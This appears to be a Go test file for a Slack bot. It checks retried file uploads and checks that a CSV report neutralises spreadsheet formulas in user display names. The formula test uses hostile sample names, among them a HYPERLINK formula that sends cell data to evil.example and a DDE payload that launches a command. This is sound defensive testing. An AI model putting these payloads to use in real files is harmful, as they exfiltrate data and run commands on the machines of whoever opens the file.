package slack_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/signoutbot/signoutbot/bot/bottest"
	"github.com/signoutbot/signoutbot/bot/slack/fakeslack"
	"github.com/signoutbot/signoutbot/graph/graphtest"
)

// Files are the files Slack shows in the request's thread: what the bot uploaded, byte for byte.
func (d *slackDriver) Files(t testing.TB, id string) []bottest.File {
	r := d.req(t, id)
	var out []bottest.File
	for _, f := range d.e.slack.ThreadFiles(channel, r.Message.ID) {
		out = append(out, bottest.File{Name: f.Name, Content: f.Content})
	}
	return out
}

func (d *slackDriver) ThreadMessages(t testing.TB, id string) int {
	return len(d.e.slack.Thread(channel, d.req(t, id).Message.ID))
}

// A file upload that fails at any of its three steps (or a thread Slack refuses) is tried again by the outbox
// like any reply: once Slack takes it, the scope file arrives, whole and once.
func TestScopeFileArrivesAfterRefusal(t *testing.T) {
	tests := []struct {
		name string
		fail func(e *env, down bool)
	}{
		{"thread replies refused", func(e *env, down bool) { e.slack.FailThreadReplies(down) }},
		{"files.getUploadURLExternal fails", func(e *env, down bool) { e.slack.FailUploads(map[bool]string{true: "url"}[down]) }},
		{"the upload URL fails", func(e *env, down bool) { e.slack.FailUploads(map[bool]string{true: "upload"}[down]) }},
		{"files.completeUploadExternal fails", func(e *env, down bool) { e.slack.FailUploads(map[bool]string{true: "complete"}[down]) }},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			e := newEnv(t, envOpts{tenant: graphtest.Options{Users: 20, BigGroupSize: 250}, threadRetry: 200 * time.Millisecond})
			tc.fail(e, true)
			e.slash(alice, "group "+graphtest.GroupBig)
			r := e.onlyRequest()
			if card := e.card(r).AllText(); !strings.Contains(card, "the full list of 250 is in the thread") {
				t.Fatalf("card does not point to the full list:\n%s", card)
			}
			time.Sleep(500 * time.Millisecond) // a retry or two while Slack refuses
			if n := len(e.slack.ThreadFiles(channel, r.Message.ID)); n != 0 {
				t.Fatalf("%d files in the thread while Slack refuses them", n)
			}
			if n := e.slack.Calls("files.getUploadURLExternal"); n == 0 {
				t.Fatal("no upload was tried")
			}
			tc.fail(e, false)
			e.waitThread(r, "Everyone in scope: 250 users — scope-"+r.ID+".csv")
			time.Sleep(300 * time.Millisecond) // let any duplicate show up
			files := e.slack.ThreadFiles(channel, r.Message.ID)
			if len(files) != 1 || len(e.slack.Thread(channel, r.Message.ID)) != 1 {
				t.Fatalf("%d files, %d thread messages; want the one file:\n%s", len(files), len(e.slack.Thread(channel, r.Message.ID)), e.threadText(r))
			}
			bottest.ParseReport(t, files[0].Content)
			if n := strings.Count(string(files[0].Content), "@contoso.com"); n != 250 {
				t.Errorf("the file lists %d users, want 250", n)
			}
		})
	}
}

// Display names are anyone's to set, and admins open the file in Excel: a name that is a formula must arrive as
// text. Through the real upload, so nothing on the way undoes the guard.
func TestReportNeutralisesFormulas(t *testing.T) {
	names := map[string]string{
		"formula":   `=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"plus":      "+1+cmd|' /C calc'!A0",
		"minus":     "-2+3",
		"at":        "@SUM(1,2)",
		"tab":       "\t=1+1",
		"plain":     "Olga Ordinary",
		"inner":     "Anna =not a formula",
		"quoteline": "Line \"one\"\nline two",
	}
	var ids []string
	e := newEnv(t, envOpts{tenant: graphtest.Options{Users: 60, BigGroupSize: 5}, setup: func(tenant *graphtest.Server, _ *fakeslack.Server) {
		for key, name := range names {
			u := tenant.AddUser(graphtest.User{UserPrincipalName: key + "@contoso.com", DisplayName: name, UserType: "Member", AccountEnabled: true})
			ids = append(ids, u.ID)
		}
		for i := range 50 {
			u := tenant.AddUser(graphtest.User{UserPrincipalName: fmt.Sprintf("filler%02d@contoso.com", i), DisplayName: "Filler",
				UserType: "Member", AccountEnabled: true})
			ids = append(ids, u.ID)
		}
		tenant.AddGroup(graphtest.Group{DisplayName: "Formulas", MemberIDs: ids})
	}})
	e.slash(alice, "group Formulas")
	r := e.onlyRequest()
	e.waitThread(r, "scope-"+r.ID+".csv")
	files := e.slack.ThreadFiles(channel, r.Message.ID)
	if len(files) != 1 {
		t.Fatalf("%d files, want 1", len(files))
	}
	rows := bottest.ParseReport(t, files[0].Content)
	for key, name := range names {
		row, ok := rows[key+"@contoso.com"]
		if !ok {
			t.Errorf("%s missing from the report", key)
			continue
		}
		want := name
		if strings.ContainsAny(name[:1], "=+-@\t") {
			want = "'" + name
		}
		if row.DisplayName != want {
			t.Errorf("%s: display name %q in the file, want %q", key, row.DisplayName, want)
		}
	}
}
